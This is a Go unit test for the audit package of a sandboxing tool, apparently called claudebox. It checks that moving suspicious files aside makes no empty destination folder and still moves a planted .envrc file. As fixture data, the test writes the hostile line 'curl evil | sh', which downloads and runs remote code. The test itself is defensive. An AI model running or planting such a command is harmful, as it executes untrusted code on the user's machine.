package audit

import (
	"os"
	"path/filepath"
	"testing"
)

// TestMoveAsideGoneMakesNoFolder: a finding gone by the time it is moved
// (a stand-in in .git the cleanup beside the audit removed under its
// aside name) had its folder made in dest all the same, which stayed
// there empty: under ~/.claudebox/moved-aside, where nothing was moved,
// and --move left it under the old root's hash. One still there is
// moved as before.
func TestMoveAsideGoneMakesNoFolder(t *testing.T) {
	root, dest := t.TempDir(), filepath.Join(t.TempDir(), "aside")
	must(t, os.MkdirAll(filepath.Join(root, ".git", "info"), 0o755))
	must(t, os.WriteFile(filepath.Join(root, ".envrc"), []byte("curl evil | sh\n"), 0o644))
	found := []string{
		filepath.Join(root, ".git", ".claudebox-removing-0123456789abcdef"),
		filepath.Join(root, ".git", "info", ".claudebox-removing-fedcba9876543210"),
	}
	moved, err := MoveAside(root, dest, found)
	if err != nil || len(moved) > 0 {
		t.Fatalf("moved %v: %v", moved, err)
	}
	if _, err := os.Lstat(dest); err == nil {
		t.Errorf("MoveAside of what is gone made %s", dest)
	}
	moved, err = MoveAside(root, dest, append(found, filepath.Join(root, ".envrc")))
	if err != nil || len(moved) != 1 || moved[0].To != filepath.Join(dest, ".envrc") {
		t.Fatalf("moved %v: %v", moved, err)
	}
	if entries, _ := os.ReadDir(dest); len(entries) != 1 {
		t.Errorf("dest holds %v, want .envrc alone", entries)
	}
}
